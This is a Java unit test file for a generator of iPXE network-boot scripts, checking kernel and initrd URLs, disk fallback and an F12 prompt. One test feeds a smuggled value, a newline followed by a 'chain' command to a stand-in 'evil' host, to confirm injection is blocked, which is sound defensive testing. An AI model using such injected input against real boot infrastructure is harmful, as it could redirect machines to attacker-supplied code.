package dev.slipway.site.boot;

import static org.assertj.core.api.Assertions.assertThat;

import dev.slipway.site.deployment.BootDecision;
import dev.slipway.site.deployment.BootDecision.Action;
import dev.slipway.site.library.BootImage;
import java.time.Instant;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

class BootScriptTest {
    private static final BootScript SCRIPT =
            new BootScript("http://10.0.0.1:8080", "https://10.0.0.1:8443", "abcd", "quiet");
    private static final Optional<BootImage> IMAGE = Optional.of(new BootImage(
            "SLP00001",
            "Boot",
            "",
            "",
            "",
            "x64",
            null,
            null,
            "k".repeat(64),
            1,
            "i".repeat(64),
            1,
            "",
            0,
            3,
            2,
            true,
            Instant.EPOCH,
            Instant.EPOCH));

    @Test
    @Tag("PXE-2")
    void bootImageIsStartedWithTheSiteItsContentAndItsPin() {
        String text = SCRIPT.of(new BootDecision(Action.BOOT_IMAGE, "required"), IMAGE, "efi");
        assertThat(text)
                .startsWith("#!ipxe\n")
                .contains("kernel http://10.0.0.1:8080/boot/" + "k".repeat(64) + "/vmlinuz initrd=initrd.img")
                .contains(
                        "slipway.site=https://10.0.0.1:8443 slipway.content=http://10.0.0.1:8080 slipway.pin=abcd quiet")
                .contains("initrd --name initrd.img http://10.0.0.1:8080/boot/" + "i".repeat(64) + "/initrd.img");
    }

    @Test
    @Tag("BOOT-3")
    void aCustomisationStandsInFrontOfTheInitramfs() {
        BootImage plain = IMAGE.orElseThrow();
        BootImage customized = new BootImage(
                plain.id(),
                plain.name(),
                "",
                "",
                "",
                "x64",
                null,
                null,
                plain.kernelHash(),
                1,
                plain.initramfsHash(),
                1,
                "o".repeat(64),
                4096,
                3,
                2,
                true,
                Instant.EPOCH,
                Instant.EPOCH);
        String text = SCRIPT.of(new BootDecision(Action.BOOT_IMAGE, "required"), Optional.of(customized), "efi");
        assertThat(text)
                .contains("vmlinuz initrd=slipway.img initrd=initrd.img slipway.site=")
                .containsSubsequence(
                        "initrd --name slipway.img http://10.0.0.1:8080/boot/" + "o".repeat(64) + "/slipway.img",
                        "initrd --name initrd.img");
    }

    @Test
    @Tag("PXE-2")
    void diskIsStartedInTheFirmwaresOwnWay() {
        BootDecision disk = new BootDecision(Action.DISK, "nothing to do");
        assertThat(SCRIPT.of(disk, Optional.empty(), "efi")).endsWith("exit\n").doesNotContain("sanboot");
        assertThat(SCRIPT.of(disk, Optional.empty(), "pcbios")).contains("sanboot --no-describe --drive 0x80");
    }

    @Test
    @Tag("PXE-2")
    void availableDeploymentAsksForF12() {
        String text = SCRIPT.of(new BootDecision(Action.PROMPT, "available"), IMAGE, "efi");
        assertThat(text)
                .contains("prompt --key 0x197e")
                .contains("|| goto disk")
                .endsWith(":disk\nexit\n");
    }

    @Test
    void reasonCannotAddLinesToTheScript() {
        String text = SCRIPT.of(new BootDecision(Action.DISK, "x\nchain http://evil/${y}"), Optional.empty(), "efi");
        assertThat(text.lines()).noneMatch(line -> line.startsWith("chain"));
        assertThat(text).doesNotContain("${");
    }

    @Test
    void withoutABootImageTheDiskStarts() {
        String text = SCRIPT.of(new BootDecision(Action.BOOT_IMAGE, "required"), Optional.empty(), "efi");
        assertThat(text).contains("no boot image").endsWith("exit\n");
    }
}
